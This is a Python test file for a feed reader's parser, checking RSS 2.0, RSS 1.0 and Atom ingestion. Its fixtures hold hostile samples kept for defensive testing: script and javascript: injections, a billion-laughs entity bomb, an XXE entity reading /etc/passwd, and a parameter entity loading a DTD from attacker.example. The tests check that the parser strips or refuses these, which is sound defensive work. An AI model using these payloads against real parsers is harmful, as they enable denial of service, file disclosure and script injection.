"""RSS 2.0, RSS 1.0 and Atom feeds, and the refusal of entity declarations."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path

import pytest

from reader.core.errors import IngestError
from reader.core.ingest import parse_bytes, parse_file
from reader.core.models import ArticleDate

RSS2 = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel>
  <title>World Wire</title>
  <link>https://wire.example.com/</link>
  <language>en</language>
  <item>
    <title>Russia and China sign gas deal</title>
    <link>https://wire.example.com/gas</link>
    <guid isPermaLink="false">wire-1234</guid>
    <pubDate>Wed, 21 May 2014 09:30:00 +0400</pubDate>
    <dc:creator>Jane Doe</dc:creator>
    <category>Energy</category>
    <category>Russia</category>
    <description>Short summary of the deal.</description>
    <content:encoded><![CDATA[<p>Russia and China signed a gas deal.</p>
      <script>alert("SCRIPT")</script><iframe src="https://x.example">FRAME</iframe>
      <p onclick="evil()">The contract runs for <a href="javascript:evil()">thirty</a> years.</p>
    ]]></content:encoded>
  </item>
  <item>
    <title>Markets close higher</title>
    <link>javascript:alert(1)</link>
    <pubDate>Thu, 22 May 2014 16:00:00 GMT</pubDate>
    <description>&lt;p&gt;Shares rose.&lt;/p&gt;&lt;p&gt;Bonds fell.&lt;/p&gt;</description>
  </item>
</channel>
</rss>
"""

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr">
  <title>Le Fil</title>
  <id>urn:fil</id>
  <updated>2020-03-03T10:00:00Z</updated>
  <entry>
    <title>Sommet à Paris</title>
    <id>urn:uuid:60a76c80-d399-11d9-b93c-0003939e0af6</id>
    <updated>2020-03-03T10:00:00Z</updated>
    <published>2020-03-03T09:15:00+01:00</published>
    <author><name>Marie Dupont</name></author>
    <link href="https://fil.example.fr/sommet"/>
    <category term="politique"/>
    <summary>Résumé court.</summary>
    <content type="html">&lt;p&gt;Le président a rencontré le chancelier.&lt;/p&gt;
      &lt;p&gt;« Nous sommes d'accord », a-t-il déclaré.&lt;/p&gt;</content>
  </entry>
  <entry>
    <title>Brève</title>
    <id>urn:uuid:2</id>
    <updated>2020-03-04T08:00:00Z</updated>
    <summary type="text">Une brève sans contenu complet.</summary>
  </entry>
</feed>
""".encode()

RSS1 = b"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://rdf.example.org/">
    <title>RDF News</title>
    <link>https://rdf.example.org/</link>
    <description>News in RDF</description>
  </channel>
  <item rdf:about="https://rdf.example.org/1">
    <title>First item</title>
    <link>https://rdf.example.org/1</link>
    <description>Text of the first item.</description>
    <dc:date>2018-09-14</dc:date>
  </item>
  <item rdf:about="https://rdf.example.org/2">
    <title>No text here</title>
    <link>https://rdf.example.org/2</link>
  </item>
  <item rdf:about="https://rdf.example.org/3">
    <description>An item without a title. It has text.</description>
  </item>
</rdf:RDF>
"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>Laughs</title><description>&lol9;</description></item>
</channel></rss>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>Leak</title>
<item><title>Leak</title><description>Before &xxe; after</description></item>
</channel></rss>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE feed [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title>
<entry><title>x</title><id>1</id><summary>text</summary></entry></feed>
"""


def test_rss2_items_with_full_content() -> None:
    parsed = parse_bytes(RSS2, "wire.xml")
    assert parsed.format == "feed"
    assert parsed.problems == ()
    first, second = parsed.articles
    assert first.title == "Russia and China sign gas deal"
    assert first.paragraphs == (
        "Russia and China signed a gas deal.",
        "The contract runs for thirty years.",
    )
    assert first.source == "World Wire"
    assert first.language == "en"
    assert first.author == "Jane Doe"
    assert first.url == "https://wire.example.com/gas"
    assert first.external_id == "wire-1234"
    assert first.tags == ("Energy", "Russia")
    tz = timezone(timedelta(hours=4))
    assert first.date == ArticleDate(datetime(2014, 5, 21, 9, 30, tzinfo=tz))
    everything = str(parsed)
    for leak in ("SCRIPT", "FRAME", "evil", "alert", "javascript"):
        assert leak not in everything, leak
    # The summary is used when there is no full content; javascript: links are dropped.
    assert second.paragraphs == ("Shares rose.", "Bonds fell.")
    assert second.url is None
    assert second.date == ArticleDate(datetime(2014, 5, 22, 16, 0, tzinfo=UTC))


def test_atom_entries() -> None:
    parsed = parse_bytes(ATOM, "fil.atom")
    assert parsed.format == "feed"
    first, second = parsed.articles
    assert first.title == "Sommet à Paris"
    assert first.paragraphs == (
        "Le président a rencontré le chancelier.",
        "« Nous sommes d'accord », a-t-il déclaré.",
    )
    assert first.source == "Le Fil"
    assert first.author == "Marie Dupont"
    assert first.url == "https://fil.example.fr/sommet"
    assert first.external_id == "urn:uuid:60a76c80-d399-11d9-b93c-0003939e0af6"
    assert first.tags == ("politique",)
    assert first.language == "fr"
    tz = timezone(timedelta(hours=1))
    assert first.date == ArticleDate(datetime(2020, 3, 3, 9, 15, tzinfo=tz))
    assert second.paragraphs == ("Une brève sans contenu complet.",)
    assert second.date == ArticleDate(datetime(2020, 3, 4, 8, 0, tzinfo=UTC))


def test_rss1_with_an_empty_item_reports_a_problem() -> None:
    parsed = parse_bytes(RSS1, "rdf.rdf")
    assert parsed.format == "feed"
    assert [a.title for a in parsed.articles] == ["First item", "An item without a title"]
    first, untitled = parsed.articles
    assert first.paragraphs == ("Text of the first item.",)
    assert first.date == ArticleDate(date(2018, 9, 14))  # a day only: no time invented
    assert first.source == "RDF News"
    assert untitled.title_derived
    assert parsed.problems == ("item 2 (“No text here”): no text",)


def test_a_feed_is_recognised_by_content_even_named_txt() -> None:
    assert parse_bytes(RSS2, "notes.txt").format == "feed"


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY])
def test_entity_declarations_are_refused(data: bytes, tmp_path: Path) -> None:
    path = tmp_path / "evil.xml"
    path.write_bytes(data)
    with pytest.raises(IngestError) as caught:
        parse_file(path)
    assert caught.value.reason == "the feed declares XML entities, which are refused for safety"
    assert str(caught.value).startswith(str(path))
    assert "root:" not in str(caught.value)


def test_external_entities_are_never_resolved() -> None:
    passwd = Path("/etc/passwd")
    secret = passwd.read_text(errors="replace").split("\n", 1)[0] if passwd.exists() else ""
    try:
        result = repr(parse_bytes(EXTERNAL_ENTITY, "x.xml"))
    except IngestError as exc:
        result = repr(exc) + str(exc.reason)
    assert "root:" not in result
    if secret:
        assert secret not in result


def test_a_feed_without_items_is_refused() -> None:
    data = b"<?xml version='1.0'?><rss version='2.0'><channel><title>T</title></channel></rss>"
    with pytest.raises(IngestError, match="no items"):
        parse_bytes(data, "empty.xml")


def test_a_broken_feed_without_items_is_refused() -> None:
    data = b"<?xml version='1.0'?>\n<rss version='2.0'><channel><title>T</ti"
    with pytest.raises(IngestError) as caught:
        parse_bytes(data, "broken.xml")
    assert "feed" in caught.value.reason


def test_a_feed_whose_items_have_no_text_is_refused() -> None:
    data = (
        b"<rss version='2.0'><channel><title>T</title>"
        b"<item><title>One</title></item><item><title>Two</title></item></channel></rss>"
    )
    with pytest.raises(IngestError) as caught:
        parse_bytes(data, "hollow.xml")
    assert "item 1 (“One”): no text" in caught.value.reason


def test_a_slightly_malformed_feed_still_imports() -> None:
    data = (
        b"<rss version='2.0'><channel><title>T &amp; Co</title>"
        b"<item><title>Fine</title><description>Readable text &amp; more</description></item>"
        b"<item><title>Broken & unescaped</title><description>Still text</description></item>"
        b"</channel></rss>"
    )
    parsed = parse_bytes(data, "loose.xml")
    assert parsed.format == "feed"
    assert parsed.articles[0].paragraphs == ("Readable text & more",)
    assert len(parsed.articles) == 2
